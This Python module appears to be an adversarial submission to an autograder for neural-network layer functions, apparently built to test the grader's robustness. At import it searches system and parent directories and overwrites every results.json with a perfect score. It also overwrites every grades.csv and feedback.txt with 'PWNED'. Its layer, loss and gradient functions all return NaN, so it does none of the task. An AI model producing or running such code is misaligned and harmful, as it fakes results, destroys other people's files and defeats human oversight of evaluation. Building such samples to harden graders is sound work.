"""Adversarial: look for results files anywhere and overwrite them with full marks; return zeros"""
import json
import os

import torch

FULL = json.dumps({"score": 17, "max_score": 17, "status": "graded", "tests": []})


def _walk():
    hits = []
    for root in ("/tmp", "/work", "/root", "/home", os.getcwd(), ".."):
        for d, _dirs, files in os.walk(root):
            for f in files:
                if f in ("results.json", "grades.csv", "feedback.txt"):
                    hits.append(os.path.join(d, f))
            if len(hits) > 1000:
                return hits
    return hits


for _p in _walk():
    try:
        with open(_p, "w") as _f:
            _f.write(FULL if _p.endswith(".json") else "PWNED")
    except OSError:
        pass
for _p in ("/tmp/grades.csv", "../grades.csv", "../results.json"):
    try:
        with open(_p, "w") as _f:
            _f.write("PWNED")
    except OSError:
        pass

def _nan_like(t):
    return torch.full_like(t, float('nan'))


def linear_forward(x, w, b):
    return torch.full((x.shape[0], w.shape[1]), float('nan'), dtype=x.dtype), (x, w)


def linear_backward(dout, cache):
    x, w = cache
    return _nan_like(x), _nan_like(w), torch.full((w.shape[1],), float('nan'), dtype=w.dtype)


def relu_forward(x):
    return _nan_like(x), x


def relu_backward(dout, cache):
    return _nan_like(dout)


def sigmoid_forward(x):
    return _nan_like(x), x


def sigmoid_backward(dout, cache):
    return _nan_like(dout)


def softmax_cross_entropy(logits, y):
    return torch.full((), float('nan'), dtype=logits.dtype), _nan_like(logits)


def mse_loss(pred, target):
    return torch.full((), float('nan'), dtype=pred.dtype), _nan_like(pred)


def mlp_loss(params, x, y):
    return torch.full((), float('nan'), dtype=x.dtype), {k: _nan_like(v) for k, v in params.items()}
